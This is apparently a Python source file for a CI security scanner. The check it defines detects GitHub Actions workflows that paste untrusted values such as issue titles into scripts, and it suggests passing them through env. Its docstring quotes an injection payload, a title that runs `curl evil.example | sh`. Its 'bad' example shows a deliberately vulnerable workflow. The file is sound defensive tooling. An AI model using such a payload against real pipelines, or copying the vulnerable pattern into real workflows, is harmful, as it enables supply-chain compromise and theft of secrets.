"""Untrusted text is pasted into a script.

GitHub puts the value of `${{ ... }}` into the text of a script before the shell sees it. A pull
request titled `a"; curl evil.example | sh; "` is then no title but a command, which runs with the
job's token and secrets.

The releases of ultralytics of December 2024 were poisoned this way: the name of a branch was
expanded in a composite action under `pull_request_target`, and a coin miner was published to
PyPI.
"""

from collections.abc import Iterable

from keten.checks.pipeline import _github as gh
from keten.checks.pipeline._expressions import expressions
from keten.checks.pipeline._taint import Source, spelled
from keten.model.check import Check, Example, Threat
from keten.model.delivery import Pipeline, Step
from keten.model.facts import View
from keten.model.finding import Change, Severity, Violation

_SINKS = {
    "actions/github-script": ("script",),
    "azure/cli": ("inlinescript",),
    "azure/powershell": ("inlinescript",),
    "appleboy/ssh-action": ("script",),
    "addnab/docker-run-action": ("run",),
    "nick-fields/retry": ("command", "new_command_on_retry", "on_retry_command"),
    "nick-invision/retry": ("command", "new_command_on_retry", "on_retry_command"),
    "jannekem/run-python-script-action": ("script",),
    "satackey/action-js-inline": ("script",),
    "amadevus/pwsh-script": ("script",),
    "cardinalby/js-eval-action": ("expression",),
    "reactivecircus/android-emulator-runner": ("script",),
    "mikefarah/yq": ("cmd",),
}


def run(pipeline: Pipeline, _view: View) -> Iterable[Violation]:
    """Follow each context that comes out of an expression in a script to who chooses it.

    What a caller chooses (inputs) is one violation a script; a stranger's text one each.
    """
    source = Source(pipeline)
    group = f"Pass untrusted values to the scripts of {pipeline.id} through env"
    for job, step in gh.steps(pipeline):
        for at, text in _scripts(step):
            worst: dict[tuple[str, ...], Severity] = {}
            judged: set[tuple[str, ...]] = set()
            ceiling = Severity.MEDIUM if gh.gated(job, step) else Severity.CRITICAL
            for one in expressions(text):
                whole = "tojson" in one.calls
                for path in one.flows:
                    if path in judged and not whole:
                        continue
                    judged.add(path)
                    severity = source.judge(path, job, step, whole=whole)
                    if severity is not None:
                        worst.setdefault(path, min(severity, ceiling))
            callers = [path for path in worst if path[0] == "inputs" or "inputs" in path[:3]]
            together = [callers] if callers else []
            for paths in [*([path] for path in worst if path not in callers), *together]:
                names = ", ".join(spelled(path) for path in paths[:3])
                more = f" and {len(paths) - 3} more" if len(paths) > 3 else ""  # noqa: PLR2004 shown
                variable = "".join(c if c.isalnum() else "_" for c in paths[0][-1]).upper()
                yield Violation(
                    f"{gh.label(job, step)} pastes {names}{more} into its script",
                    at=at,
                    key=f"{job.id}/{step.id or step.name}/{names}",
                    severity=max(worst[path] for path in paths),
                    change=Change(
                        at,
                        f"${{{{ {spelled(paths[0])} }}}}",
                        f"${variable}, with {variable} set in env",
                        group,
                    ),
                )


def _scripts(step: Step) -> Iterable[tuple[str, str]]:
    if step.run:
        yield f"{step.at}.run", step.run
    elif step.uses:
        inputs = _SINKS.get(step.uses.partition("@")[0].strip().lower(), ())
        for name, value in step.inputs.items():
            if name.lower() in inputs and isinstance(value, str):
                yield f"{step.at}.with.{name}", value


CHECK = Check(
    title="Untrusted text is pasted into a script",
    subject=Pipeline,
    severity=Severity.HIGH,
    needs=("pipeline",),
    fix=(
        'Hand the value over in env: and use it as a quoted shell variable ("$TITLE"), which '
        "the shell does not parse as code."
    ),
    threats=(Threat.SUPPLY_CHAIN, Threat.ACTOR),
    controls=("owasp-cicd/4", "nis2/e", "pci-dss/6.2"),
    bad=Example(
        ".github/workflows/ci.yml",
        """\
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "New issue ${{ github.event.issue.title }}"
""",
    ),
    good=Example(
        ".github/workflows/ci.yml",
        """\
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "New issue $TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
""",
    ),
    run=run,
    applies=gh.github,
    refs=("https://docs.github.com/en/actions/reference/security/secure-use",),
)
